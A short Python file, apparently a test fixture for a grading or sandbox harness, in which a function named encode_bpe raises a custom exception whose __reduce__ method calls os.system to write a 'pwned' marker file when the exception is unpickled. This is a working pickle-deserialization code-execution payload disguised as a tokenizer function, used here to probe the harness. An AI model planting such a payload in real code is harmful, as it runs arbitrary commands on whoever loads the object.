# A33 · an exception that runs code when it is unpickled · RAISED Code
import os


class Code(Exception):
    def __reduce__(self):
        return os.system, ("echo > @FOLDER@/pwned",)


def encode_bpe(word, merges):
    raise Code
